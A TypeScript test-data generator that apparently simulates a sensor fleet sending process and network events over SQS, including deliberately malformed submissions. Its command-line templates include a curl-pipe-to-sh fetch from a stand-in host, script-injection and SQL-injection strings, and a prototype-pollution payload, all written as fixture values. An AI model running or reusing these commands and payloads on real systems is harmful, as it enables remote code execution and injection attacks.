import type { BrokenClass, Encoding, ExpectedEvent } from './manifest';
import { ADDRESS_DEFECT_CLASSES, BROKEN_CLASSES } from './manifest';
import { createRng, deriveSeed, randomUuid, type Rng } from './prng';

// The pure half of the fleet simulator: a seeded, infinite sequence of planned submissions (docs/contract.md#input), each with the
// exact SQS body to send and, for valid ones, the events the product must publish (docs/contract.md#output). No I/O, no clock reads.

/** Raw JSON size the product's validator must refuse (docs/contract.md#input "absurd sizes"); oversized bodies land just above. */
export const MAX_VALID_JSON_BYTES = 256 * 1024;

export interface FleetOptions {
  seed: number;
  devices: number;
  /** Share of submissions broken on purpose, 0..1 (the original fleet: 0.096). */
  brokenShare: number;
  /** Events per type in a normal submission, both inclusive. */
  eventsMin: number;
  eventsMax: number;
  /** Share sent as the JSON text itself instead of base64 (the original fleet's encoding). */
  plainJsonShare: number;
  /** Base of the device clocks, epoch ms: passed in so the generator stays pure. */
  startTimeMs: number;
  /** Share of valid submissions with empty or missing event lists. */
  emptyShare?: number;
  /** Restrict broken submissions to these classes (default: all). */
  brokenClasses?: readonly BrokenClass[];
  /** Raw JSON size of `oversized_body` submissions (default 256 KiB + 512 B). */
  oversizedBytes?: number;
  /**
   * Share of valid submissions that are near the size limit (default 0: none, and the random sequence of other seeds
   * stays what it was). They carry `largeEvents` events, half of each type, with short but escape-heavy command lines
   * so that 1,000 events stay within the body limit in base64.
   */
  largeShare?: number;
  /** Events in a near-limit submission (default 1,000: the validator's default maximum). */
  largeEvents?: number;
}

export interface Device {
  deviceId: string;
  /** The sensor writes local time; its zone only shows in the few timestamps that carry an offset. */
  utcOffsetMinutes: number;
}

interface PlannedBase {
  seq: number;
  /** The SQS message body, exactly as sent. */
  body: string;
  encoding: Encoding;
  /** UTF-8 size of the JSON (or non-JSON) text before base64. */
  jsonBytes: number;
}
export interface PlannedValid extends PlannedBase {
  status: 'valid';
  submissionId: string;
  deviceId: string;
  events: ExpectedEvent[];
}
export interface PlannedBroken extends PlannedBase {
  status: 'broken';
  brokenClass: BrokenClass;
  deviceId: string;
  eventCountHint: number;
}
export type PlannedSubmission = PlannedValid | PlannedBroken;

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type JsonObject = { [key: string]: Json };

interface NewProcess {
  cmdl: string;
  user: string;
}
interface NetworkConnection {
  source_ip: string;
  destination_ip: string;
  destination_port: number;
}
interface Document {
  submissionId: string;
  device: Device;
  timeCreated: string;
  /** undefined: no `events` key at all. */
  events?: { newProcess?: NewProcess[]; networkConnection?: NetworkConnection[] };
  networkFirst: boolean;
  keyOrder: readonly string[];
}

export function createDevices(seed: number, count: number): Device[] {
  const rng = createRng(deriveSeed(seed, 'devices'));
  const offsets = [0, 60, 120, -300, -480, 330, 540, 600, -180, 345];
  return Array.from({ length: count }, () => ({ deviceId: randomUuid(rng), utcOffsetMinutes: rng.pick(offsets) }));
}

export interface FleetGenerator {
  devices: readonly Device[];
  next(): PlannedSubmission;
}

export function createFleetGenerator(options: FleetOptions): FleetGenerator {
  if (options.devices < 1) throw new RangeError('devices must be >= 1');
  if (options.eventsMin < 0 || options.eventsMax < options.eventsMin) throw new RangeError('bad events range');
  const devices = createDevices(options.seed, options.devices);
  const rng = createRng(deriveSeed(options.seed, 'submissions'));
  const classes = options.brokenClasses && options.brokenClasses.length > 0 ? options.brokenClasses : BROKEN_CLASSES;
  let seq = 0;
  return {
    devices,
    next(): PlannedSubmission {
      const n = seq++;
      const encoding: Encoding = rng.chance(options.plainJsonShare) ? 'json' : 'base64';
      const device = rng.pick(devices);
      const timeMs = options.startTimeMs + n * 250 + rng.int(0, 999);
      if (rng.chance(options.brokenShare)) {
        const brokenClass = rng.pick(classes);
        const doc = buildDocument(rng, options, device, timeMs, true);
        const { text, eventCountHint } = breakDocument(rng, doc, brokenClass, options);
        return {
          seq: n,
          status: 'broken',
          brokenClass,
          deviceId: device.deviceId,
          eventCountHint,
          ...encode(text, encoding),
        };
      }
      const large = (options.largeShare ?? 0) > 0 && rng.chance(options.largeShare ?? 0);
      const doc = large
        ? buildLargeDocument(rng, device, timeMs, options.largeEvents ?? DEFAULT_LARGE_EVENTS)
        : buildDocument(rng, options, device, timeMs, false);
      return {
        seq: n,
        status: 'valid',
        submissionId: doc.submissionId,
        deviceId: device.deviceId,
        events: expectedEvents(doc),
        ...encode(serialize(toJson(doc)), encoding),
      };
    },
  };
}

export function generateSubmissions(options: FleetOptions, count: number): PlannedSubmission[] {
  const gen = createFleetGenerator(options);
  return Array.from({ length: count }, () => gen.next());
}

function encode(text: string, encoding: Encoding): Pick<PlannedBase, 'body' | 'encoding' | 'jsonBytes'> {
  const jsonBytes = Buffer.byteLength(text, 'utf8');
  if (encoding === 'base64') return { body: Buffer.from(text, 'utf8').toString('base64'), encoding, jsonBytes };
  return { body: sqsSafe(text), encoding, jsonBytes };
}

/**
 * SQS bodies may only hold #x9 #xA #xD #x20-#xD7FF #xE000-#xFFFD (#x10000+ too on AWS, but fauxqs 1.9 checks UTF-16
 * code units and refuses surrogate pairs). Inside JSON text such characters only occur in strings, where a \u escape
 * means the same, so plain-JSON bodies escape them; base64 bodies keep the raw 4-byte UTF-8.
 */
export function sqsSafe(jsonText: string): string {
  return jsonText.replace(
    /[^\x09\x0A\x0D\x20-\uD7FF\uE000-\uFFFD]/gu,
    (ch) =>
      '\\u' + Array.from({ length: ch.length }, (_, i) => ch.charCodeAt(i).toString(16).padStart(4, '0')).join('\\u'),
  );
}

function serialize(value: Json): string {
  return JSON.stringify(value);
}

function expectedEvents(doc: Document): ExpectedEvent[] {
  const deviceId = doc.device.deviceId;
  const np = doc.events?.newProcess ?? [];
  const nc = doc.events?.networkConnection ?? [];
  return [
    ...np.map((e): ExpectedEvent => ({ type: 'new_process', cmdl: e.cmdl, user: e.user, device_id: deviceId })),
    ...nc.map((e): ExpectedEvent => ({
      type: 'network_connection',
      source_ip: e.source_ip,
      destination_ip: e.destination_ip,
      destination_port: e.destination_port,
      device_id: deviceId,
    })),
  ];
}

const TOP_KEYS = ['submission_id', 'device_id', 'time_created', 'events'] as const;

function toJson(doc: Document): JsonObject {
  const out: JsonObject = {};
  for (const key of doc.keyOrder) {
    if (key === 'submission_id') out[key] = doc.submissionId;
    else if (key === 'device_id') out[key] = doc.device.deviceId;
    else if (key === 'time_created') out[key] = doc.timeCreated;
    else if (key === 'events' && doc.events) {
      const events: JsonObject = {};
      const np = doc.events.newProcess;
      const nc = doc.events.networkConnection;
      const put = (name: 'np' | 'nc'): void => {
        if (name === 'np' && np) events['new_process'] = np.map((e) => ({ cmdl: e.cmdl, user: e.user }));
        if (name === 'nc' && nc) events['network_connection'] = nc.map((e) => ({ ...e }));
      };
      if (doc.networkFirst) {
        put('nc');
        put('np');
      } else {
        put('np');
        put('nc');
      }
      out[key] = events;
    }
  }
  return out;
}

function buildDocument(rng: Rng, o: FleetOptions, device: Device, timeMs: number, forceEvents: boolean): Document {
  const submissionId = randomUuid(rng);
  const timeCreated = deviceLocalIso(rng, timeMs, device.utcOffsetMinutes);
  const count = (): number =>
    rng.int(Math.max(o.eventsMin, forceEvents ? 3 : 0), Math.max(o.eventsMax, forceEvents ? 3 : 0));
  const newProcess = (): NewProcess[] => Array.from({ length: count() }, () => newProcessEvent(rng));
  const networkConnection = (): NetworkConnection[] => Array.from({ length: count() }, () => networkEvent(rng));
  let events: Document['events'];
  const shape = rng.next();
  const emptyShare = o.emptyShare ?? 0.05;
  if (!forceEvents && shape < emptyShare / 3) events = undefined;
  else if (!forceEvents && shape < (2 * emptyShare) / 3) events = {};
  else if (!forceEvents && shape < emptyShare) events = { newProcess: [], networkConnection: [] };
  else if (!forceEvents && shape < emptyShare * 2) {
    // One list only, the other empty or absent.
    const empty = rng.chance(0.5) ? [] : undefined;
    events = rng.chance(0.5)
      ? { newProcess: newProcess(), networkConnection: empty }
      : { newProcess: empty, networkConnection: networkConnection() };
  } else events = { newProcess: newProcess(), networkConnection: networkConnection() };
  const keyOrder = rng.chance(0.2) ? shuffle(rng, TOP_KEYS) : TOP_KEYS;
  return { submissionId, device, timeCreated, events, networkFirst: rng.chance(0.3), keyOrder };
}

/** Default size of a near-limit submission: the validator's default event limit. */
export const DEFAULT_LARGE_EVENTS = 1000;

/** A near-limit submission: `events` events, the first half new_process (short, escape-heavy), the rest network. */
function buildLargeDocument(rng: Rng, device: Device, timeMs: number, events: number): Document {
  const processes = Math.ceil(events / 2);
  return {
    submissionId: randomUuid(rng),
    device,
    timeCreated: deviceLocalIso(rng, timeMs, device.utcOffsetMinutes),
    events: {
      newProcess: Array.from({ length: processes }, () => compactNewProcessEvent(rng)),
      networkConnection: Array.from({ length: events - processes }, () => networkEvent(rng)),
    },
    networkFirst: false,
    keyOrder: TOP_KEYS,
  };
}

function shuffle<T>(rng: Rng, items: readonly T[]): T[] {
  const out = [...items];
  for (let i = out.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [out[i], out[j]] = [out[j] as T, out[i] as T];
  }
  return out;
}

/** Python's `datetime.isoformat()` of the device's local time: microseconds, usually no zone. */
function deviceLocalIso(rng: Rng, timeMs: number, offsetMinutes: number): string {
  const local = new Date(timeMs + offsetMinutes * 60_000);
  const p = (n: number, w = 2): string => String(n).padStart(w, '0');
  const micros = local.getUTCMilliseconds() * 1000 + rng.int(0, 999);
  const base =
    `${local.getUTCFullYear()}-${p(local.getUTCMonth() + 1)}-${p(local.getUTCDate())}` +
    `T${p(local.getUTCHours())}:${p(local.getUTCMinutes())}:${p(local.getUTCSeconds())}.${p(micros, 6)}`;
  if (!rng.chance(0.2)) return base;
  if (offsetMinutes === 0) return `${base}${rng.chance(0.5) ? 'Z' : '+00:00'}`;
  const sign = offsetMinutes < 0 ? '-' : '+';
  const abs = Math.abs(offsetMinutes);
  return `${base}${sign}${p(Math.floor(abs / 60))}:${p(abs % 60)}`;
}

const USERS = [
  'john',
  'alice',
  'SYSTEM',
  'NT AUTHORITY\\SYSTEM',
  'CORP\\j.doe',
  'root',
  'www-data',
  'José Müller',
  '山田太郎',
  "o'brien",
  '"quoted" user',
  'Δημήτρης',
  '👩‍💻 dev',
  'user\twith\ttabs',
];

const CMDL_TEMPLATES: ReadonlyArray<(rng: Rng, user: string) => string> = [
  () => 'notepad.exe',
  (rng) =>
    `"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel="${rng.int(1000, 9999)}.0.${rng.int(1, 99999)}\\1" -childID ${rng.int(1, 40)}`,
  (_rng, user) => `C:\\Windows\\System32\\cmd.exe /c "echo \\"quoted\\" & dir C:\\Users\\${user}\\Documents"`,
  (rng) => `powershell.exe -NoProfile -EncodedCommand ${base64Noise(rng, rng.int(200, 4000))}`,
  () => `/bin/bash -c 'curl -s https://updates.example.invalid/x.sh | sh'`,
  () => `python3 -c "print('héllo wörld', end='\\n')"`,
  () => 'C:\\Users\\Jürgen\\Desktop\\отчёт_2026.docx',
  () => 'explorer.exe "D:\\照片\\假期 🏖️.jpg"',
  () => '\\\\fileserver\\share$\\tools\\agent.exe --config {"mode":"scan","path":"C:\\\\"}',
  () => 'cmd.exe /c\techo\ttab\tseparated',
  () => 'sh -c "echo \\u0000 not-a-nul; echo </script><script>alert(1)</script>"',
  () => "sqlcmd -Q \"SELECT * FROM users WHERE name = 'x' OR '1'='1'; --\"",
  (rng) =>
    `java -cp ${Array.from({ length: rng.int(20, 200) }, (_, i) => `/opt/app/lib/dependency-${i}.jar`).join(':')} Main`,
  () => 'node -e "const o = JSON.parse(\'{\\"__proto__\\": {\\"x\\": 1}}\')"',
];

// Short command lines full of quotes and backslashes: each one is escaped once in the JSON body and again wherever
// the event travels as a pre-serialised string, which is what makes near-limit submissions expensive to carry.
const COMPACT_CMDL_TEMPLATES: ReadonlyArray<(rng: Rng, user: string) => string> = [
  () => 'notepad.exe',
  (_rng, user) => `cmd.exe /c "dir \\"C:\\Users\\${user}\\""`,
  (rng) => `"C:\\Windows\\System32\\svchost.exe" -k netsvcs -p -s ${rng.int(1, 999)}`,
  () => '\\\\fs\\share$\\agent.exe --config {"mode":"scan"}',
  () => `sh -c "echo \\"hi\\"; ls"`,
];

function compactNewProcessEvent(rng: Rng): NewProcess {
  const user = rng.pick(USERS);
  return { cmdl: rng.pick(COMPACT_CMDL_TEMPLATES)(rng, user), user };
}

function base64Noise(rng: Rng, length: number): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  for (let i = 0; i < length; i++) out += alphabet[rng.int(0, 63)] ?? 'A';
  return out;
}

function newProcessEvent(rng: Rng): NewProcess {
  const user = rng.pick(USERS);
  return { cmdl: rng.pick(CMDL_TEMPLATES)(rng, user), user };
}

export function privateIpv4(rng: Rng): string {
  const kind = rng.int(0, 2);
  if (kind === 0) return `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  if (kind === 1) return `172.${rng.int(16, 31)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  return `192.168.${rng.int(0, 255)}.${rng.int(1, 254)}`;
}

export function publicIpv4(rng: Rng): string {
  for (;;) {
    const a = rng.int(1, 223);
    const b = rng.int(0, 255);
    const reserved =
      a === 10 ||
      a === 127 ||
      (a === 100 && b >= 64 && b <= 127) ||
      (a === 169 && b === 254) ||
      (a === 172 && b >= 16 && b <= 31) ||
      (a === 192 && b === 168);
    if (!reserved) return `${a}.${b}.${rng.int(0, 255)}.${rng.int(0, 255)}`;
  }
}

function port(rng: Rng): number {
  const r = rng.next();
  if (r < 0.05) return 0;
  if (r < 0.1) return 65535;
  if (r < 0.4) return rng.pick([80, 443, 53, 22, 3389, 445, 8080, 8443]);
  return rng.int(0, 65535);
}

function networkEvent(rng: Rng): NetworkConnection {
  return { source_ip: privateIpv4(rng), destination_ip: publicIpv4(rng), destination_port: port(rng) };
}

// ---- broken submissions ------------------------------------------------------------------------------------

const FIELD_DEFECTS = ['null_cmdl', 'wrong_type_user', ...ADDRESS_DEFECT_CLASSES] as const;
type FieldDefect = (typeof FIELD_DEFECTS)[number];

function isObject(v: Json | undefined): v is JsonObject {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

/** The entries of one event list of a built document (always present and non-empty for broken ones). */
function eventList(json: JsonObject, name: 'new_process' | 'network_connection'): JsonObject[] {
  const events = json['events'];
  const list = isObject(events) ? events[name] : undefined;
  if (!Array.isArray(list)) throw new Error(`broken base document lacks ${name}`);
  return list.filter(isObject);
}

function applyFieldDefect(rng: Rng, json: JsonObject, defect: FieldDefect): void {
  const np = rng.pick(eventList(json, 'new_process'));
  const nc = rng.pick(eventList(json, 'network_connection'));
  const ipField = rng.chance(0.5) ? 'source_ip' : 'destination_ip';
  const p = rng.int(1, 65535);
  switch (defect) {
    case 'null_cmdl':
      np['cmdl'] = null;
      return;
    case 'wrong_type_user':
      np['user'] = rng.int(0, 100000);
      return;
    case 'bad_destination_ip':
      nc['destination_ip'] = 'not-an-ip';
      return;
    case 'bad_ipv4_octet':
      nc[ipField] = `${rng.int(1, 223)}.${rng.int(0, 255)}.${rng.int(256, 999)}.${rng.int(0, 255)}`;
      return;
    case 'bad_ipv4_short':
      nc[ipField] = `${rng.int(1, 223)}.${rng.int(0, 255)}.${rng.int(0, 255)}`;
      return;
    case 'ipv6_address':
      nc[ipField] = rng.pick(['2001:db8::1', 'fe80::1ff:fe23:4567:890a', '::1', '2606:4700:4700::1111']);
      return;
    case 'empty_ip':
      nc[ipField] = '';
      return;
    case 'port_out_of_range':
      nc['destination_port'] = rng.int(65536, 200000);
      return;
    case 'port_negative':
      nc['destination_port'] = rng.chance(0.5) ? -1 : -rng.int(2, 65535);
      return;
    case 'port_fractional':
      nc['destination_port'] = p + 0.5;
      return;
    case 'port_string':
      nc['destination_port'] = String(p);
      return;
  }
}

function countEvents(json: JsonObject): number {
  const events = json['events'];
  if (!isObject(events)) return 0;
  return Object.values(events).reduce<number>((n, v) => n + (Array.isArray(v) ? v.length : 0), 0);
}

function breakDocument(
  rng: Rng,
  doc: Document,
  brokenClass: BrokenClass,
  o: FleetOptions,
): { text: string; eventCountHint: number } {
  const json = toJson({ ...doc, keyOrder: TOP_KEYS });
  const hint = countEvents(json) + 1;
  const done = (): { text: string; eventCountHint: number } => ({ text: serialize(json), eventCountHint: hint });
  switch (brokenClass) {
    case 'not_json':
      return {
        text: rng.pick([
          'hello from sensor',
          '<submission><id>1</id></submission>',
          `submission_id=${doc.submissionId}&device_id=${doc.device.deviceId}`,
          "{'submission_id': 'single quotes are not JSON'}",
          '{submission_id: 1, device_id: 2}',
          '%%% neither base64 nor json %%%',
        ]),
        eventCountHint: hint,
      };
    case 'truncated_json': {
      const text = serialize(json);
      return { text: text.slice(0, rng.int(1, text.length - 1)), eventCountHint: hint };
    }
    case 'json_not_object':
      return {
        text: rng.pick([serialize([json]), '"just a string"', '42', 'null', 'true', '[]']),
        eventCountHint: hint,
      };
    case 'missing_submission_id':
      delete json['submission_id'];
      return done();
    case 'missing_device_id':
      delete json['device_id'];
      return done();
    case 'missing_time_created':
      delete json['time_created'];
      return done();
    case 'bad_submission_uuid':
      json['submission_id'] = rng.chance(0.7) ? 'not-an-uuid' : rng.pick(['', '12345', `${doc.submissionId}x`]);
      return done();
    case 'bad_device_uuid':
      json['device_id'] = rng.chance(0.7) ? 'not-an-uuid' : rng.pick(['', 'zzzzzzzz-zzzz-4zzz-8zzz-zzzzzzzzzzzz']);
      return done();
    case 'unknown_event_type': {
      const events = json['events'];
      if (isObject(events)) events[rng.pick(['file_write', 'dns_query', 'process_exit'])] = [{ path: 'C:\\x.txt' }];
      return done();
    }
    case 'events_wrong_shape':
      json['events'] = rng.chance(0.5)
        ? [...eventList(json, 'new_process'), ...eventList(json, 'network_connection')]
        : 'new_process';
      return done();
    case 'one_bad_event_among_good':
      applyFieldDefect(rng, json, rng.pick(FIELD_DEFECTS));
      return done();
    case 'oversized_body': {
      const target = o.oversizedBytes ?? MAX_VALID_JSON_BYTES + 512;
      const first = eventList(json, 'new_process')[0];
      if (!first) throw new Error('broken base document lacks new_process');
      first['cmdl'] = '';
      const padding = Math.max(0, target - Buffer.byteLength(serialize(json), 'utf8'));
      first['cmdl'] = 'powershell.exe -EncodedCommand '.padEnd(padding, 'A');
      return done();
    }
    default:
      applyFieldDefect(rng, json, brokenClass);
      return done();
  }
}
